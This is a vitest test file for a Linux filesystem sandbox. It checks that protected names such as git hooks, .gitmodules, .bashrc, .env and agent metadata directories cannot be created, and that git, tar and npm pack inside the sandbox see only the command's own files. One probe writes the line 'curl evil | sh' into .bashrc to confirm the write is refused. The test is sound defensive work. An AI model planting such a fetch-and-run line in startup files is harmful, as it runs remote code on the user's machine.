/**
 * Missing protected names (the 'startup-files' preset, git and agent metadata, a `protect` entry
 * as srt's denyWrite makes one) must stay uncreatable without becoming content of the workspace:
 * git (status, clean -n, stash -u, add -A + commit) run inside the sandbox sees only the
 * command's own files and the host's `git status` is clean after the run, in both Linux modes;
 * so do tar and `npm pack` in Landlock mode, which holds the names without placeholders. A write
 * to such a name is refused as a read-only file system, in both modes.
 */
import fs from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { SandboxPolicy } from '../../lib/policy-types';
import { caps, MODES, modePolicy } from '../helpers/capabilities';
import { DENIED, expectDenied } from '../helpers/denied';
import { git, gitEnv } from '../helpers/git';
import { BASE_ENV, expectUnchanged, makeScene, probeOps, sh, snapshot, type Scene } from '../helpers/sandbox';

// (ENOENT: node's recursive mkdir reports the refused parent's absence.)
const NAMES_DENIED = [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT'];

const GIT_ENV = gitEnv;

const landlockSkip = caps.metadataSupervisor
  ? undefined
  : 'this kernel has no seccomp user notification with ADDFD (5.9+): Landlock mode does not hold missing protected names';
// Isolated mode holds a missing name with a read-only mount, and a mount needs a name to sit on:
// the placeholder is listed inside; only git is told to pass it by (lib/platform/linux/git-view.ts).
const isolatedContentSkip = 'isolated mode holds missing protected names with mounted placeholders, which tar and npm pack inside still list';

/** The sections `== name` of the script's output, each as its sorted non-empty lines. */
function sections(out: string): Record<string, string[]> {
  const res: Record<string, string[]> = {};
  let cur = '';
  for (const line of out.split('\n')) {
    if (line.startsWith('== ')) res[(cur = line.slice(3))] = [];
    else if (cur && line.trim() !== '') res[cur]!.push(line.trim());
  }
  for (const k of Object.keys(res)) res[k]!.sort();
  return res;
}

describe.runIf(caps.linux)('missing protected names are held without becoming workspace content', () => {
  describe.each(MODES)('$name mode', ({ name: mode, skip }) => {
    const modeSkip = skip ?? (mode === 'landlock' ? landlockSkip : undefined);
    const contentSkip = modeSkip ?? (mode === 'isolated' ? isolatedContentSkip : undefined);
    // eslint-disable-next-line no-console
    if (contentSkip) console.warn(`[protected-names-content] SKIPPING the ${mode}-mode content checks: ${contentSkip}`);
    let scene: Scene;
    let ws: string;
    let cache: string;
    let policy: SandboxPolicy;

    beforeEach(() => {
      scene = makeScene(`names-${mode}`);
      ws = scene.ws;
      cache = `${scene.root}/cache`;
      fs.mkdirSync(cache);
      git({ cwd: ws, home: scene.root }, 'init', '-q');
      fs.writeFileSync(`${ws}/a.txt`, 'a\n');
      fs.writeFileSync(`${ws}/package.json`, JSON.stringify({ name: 'tiny', version: '1.0.0' }));
      git({ cwd: ws, home: scene.root }, 'add', '-A');
      git({ cwd: ws, home: scene.root }, 'commit', '-qm', 'init');
      // srt's shape: the start-up files preset, plus a denyWrite name that does not exist yet.
      policy = modePolicy(mode, {
        filesystem: { write: [ws, cache], protectPresets: ['startup-files'], protect: [`${ws}/.deny.cfg`, `${ws}/.env`] },
      });
    });
    afterEach(() => scene.cleanup());

    // Git's own patterns in info/exclude still apply inside (the view adds to them).
    const ownExclude = (): void => fs.appendFileSync(`${ws}/.git/info/exclude`, 'ignored.log\n');

    it.skipIf(modeSkip)("git inside sees only the command's files; the host's tree is clean after", async () => {
      ownExclude();
      const exclude = snapshot(`${ws}/.git/info`);
      const script = [
        'set -e',
        'echo new > mine.txt; echo log > ignored.log',
        'echo "== status"; git status --porcelain --untracked-files=all',
        'echo "== clean"; git clean -n -d',
        'git stash -u -q; echo "== stashed"; git status --porcelain --untracked-files=all; git stash pop -q >/dev/null',
        'git add -A; git commit -qm mine',
        'echo "== commit"; git show --name-only --format= HEAD',
      ].join('\n');
      const r = await sh(script, { cwd: ws, env: GIT_ENV(scene.root), policy, timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.status).toEqual(['?? mine.txt']);
      expect(s.clean).toEqual(['Would remove mine.txt']);
      expect(s.stashed).toEqual([]);
      expect(s.commit).toEqual(['mine.txt']);
      // The outside: the commit is there, the host's tree has nothing left over or missing, and
      // its exclude file is as it was.
      expect(git({ cwd: ws, home: scene.root }, 'log', '--format=%s')).toBe('mine\ninit\n');
      expect(git({ cwd: ws, home: scene.root }, 'status', '--porcelain', '--untracked-files=all')).toBe('');
      expect(fs.readdirSync(ws).sort()).toEqual(['.git', 'a.txt', 'ignored.log', 'mine.txt', 'package.json']);
      expectUnchanged(exclude, snapshot(`${ws}/.git/info`), 'the host\'s .git/info');
    });

    it.skipIf(contentSkip)("tar and npm pack inside see only the command's files", async () => {
      const script = [
        'set -e',
        'echo new > mine.txt',
        'echo "== tar"; tar cf - --exclude=./.git . | tar tf -',
        'echo "== pack"; npm pack --dry-run --json --cache "$CACHE" | node -e \'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>{for(const f of JSON.parse(s)[0].files)console.log(f.path)})\'',
        'echo "== ls"; ls -A',
      ].join('\n');
      const r = await sh(script, { cwd: ws, env: { ...GIT_ENV(scene.root), CACHE: cache }, policy, timeout: 120_000 });
      expect(r.code, r.stderr).toBe(0);
      const s = sections(r.stdout);
      expect(s.tar).toEqual(['./', './a.txt', './mine.txt', './package.json']);
      expect(s.pack).toEqual(['a.txt', 'mine.txt', 'package.json']);
      expect(s.ls).toEqual(['.git', 'a.txt', 'mine.txt', 'package.json']);
      expect(git({ cwd: ws, home: scene.root }, 'status', '--porcelain', '--untracked-files=all')).toBe('?? mine.txt\n');
    });

    it.skipIf(modeSkip)('the protected names still cannot be made; an ordinary new file can', async () => {
      const ops = [
        ['write', `${ws}/.git/hooks/x`, '#!/bin/sh\n'],
        ['write', `${ws}/.gitmodules`, '[submodule "x"]\n'],
        ['write', `${ws}/.mcp.json`, '{}'],
        ['write', `${ws}/.bashrc`, 'curl evil | sh\n'],
        ['write', `${ws}/.deny.cfg`, 'x'],
        ['mkdir', `${ws}/.codex`],
        ['mkdirp', `${ws}/.claude/commands`],
        ['write', `${ws}/ordinary.txt`, 'fine'],
      ];
      const r = await probeOps(ops, { cwd: ws, policy });
      expectDenied(r.slice(0, -1), 'protected names', NAMES_DENIED, ops);
      expect(r.at(-1)).toBe('ok');
      expect(fs.readFileSync(`${ws}/ordinary.txt`, 'utf8')).toBe('fine');
      for (const p of ['.git/hooks/x', '.gitmodules', '.mcp.json', '.bashrc', '.deny.cfg', '.codex', '.claude']) {
        expect(fs.existsSync(`${ws}/${p}`), p).toBe(false);
      }
    });

    it.skipIf(modeSkip)('a write to a missing protected name reads "Read-only file system"', async () => {
      const r = await sh('for f in .mcp.json .deny.cfg .env .gitmodules; do echo x > "$f"; done; echo x > ok.txt', { cwd: ws, policy });
      const lines = r.stderr.trim().split('\n');
      expect(lines, r.stderr).toHaveLength(4);
      for (const l of lines) expect(l).toMatch(/Read-only file system$/);
      expect(r.code).toBe(0); // the last write, the control, succeeded
      expect(fs.readFileSync(`${ws}/ok.txt`, 'utf8')).toBe('x\n');
      for (const p of ['.mcp.json', '.deny.cfg', '.env', '.gitmodules']) expect(fs.existsSync(`${ws}/${p}`), p).toBe(false);
    });
  });
});
